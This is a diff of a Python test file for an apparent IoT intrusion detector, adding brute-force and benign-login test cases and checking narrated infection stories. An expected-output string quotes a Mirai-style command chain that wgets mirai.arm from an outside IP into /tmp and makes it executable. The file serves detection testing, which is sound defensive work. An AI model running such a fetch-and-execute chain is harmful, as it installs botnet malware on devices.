@@ -81,8 +81,8 @@ def test_the_whole_story_reads_in_the_order_of_time() -> None:
     assert verdict.reasons == [
         f"broken into over telnet at 14:30:10 UTC by {BOT}, who logged in as root with a password of Mirai's list "
         "after 7 failed tries",
-        "ran: enable; system; shell; sh; /bin/busybox ECCHI; cd /tmp; wget http://185.10.1.9/bins/mirai.arm; chmod 777 m… "
-        "(looks like Mirai)",
+        "ran: enable; system; shell; sh; /bin/busybox ECCHI; "
+        "cd /tmp; wget http://185.10.1.9/bins/mirai.arm; chmod 777 m… (looks like Mirai)",
         "fetched an ARM executable, mirai.arm (45.0 kB, SHA-256 abababababababab…), "
         f"from http://{LOADER}/bins/mirai.arm at 14:30:20",
         f"since 14:30:26 it talks to {CNC}, TCP port 48101",
@@ -180,7 +180,8 @@ def test_ssh_after_guessing() -> None:
 
 
 def test_ftp_after_guessing() -> None:
-    records = [*(ftp(BOT, CAM, n, "admin", 530, listed=True) for n in range(5)), ftp(BOT, CAM, 9, "admin", 230)]
+    tries = [ftp(BOT, CAM, n, user, 530, listed=True) for n, user in enumerate(["admin", "root"] * 3)]
+    records = [*tries, ftp(BOT, CAM, 9, "admin", 230)]
     assert "over FTP" in story(records).reasons[0]
 
 
@@ -265,11 +266,13 @@ ADMIN = ("cd /tmp", "wget http://192.168.0.40/tool", "chmod +x tool", "./tool", 
     GUESSES,
     [*(ssh(LAPTOP, CAM, 60 * n, True, attempts=4) for n in range(40))],
     [*(ftp(LAPTOP, CAM, 60 * n, "cam", 230) for n in range(40))],
+    [*(ftp(DVR, CAM, 60 * n, "dvr", 530) for n in range(99)), ftp(DVR, CAM, 6000, "dvr", 230)],
+    [*(ssh(DVR, CAM, 60 * n, False) for n in range(99)), ssh(DVR, CAM, 6000, True)],
     [telnet(LAPTOP, CAM, 0, commands=("help", "show version", "exit"))],
     [http(LAPTOP, CAM, n, "/snapshot.jpg", 200, username="admin", dictionary=("default",)) for n in range(9)],
     [entered(CAM, "198.51.100.9", 0, commands=TYPED)],
 ], ids=["admin", "slip", "factory password at home", "owner abroad", "firmware", "script", "guessing in vain",
-        "keys", "ftp", "menu", "web", "attacker"])  # fmt: skip
+        "keys", "ftp", "old password", "old key", "menu", "web", "attacker"])  # fmt: skip
 def test_ordinary_life_is_no_infection(records: list[Record]) -> None:
     assert judged(Infection, [*BEFORE, *records]) == {}
 
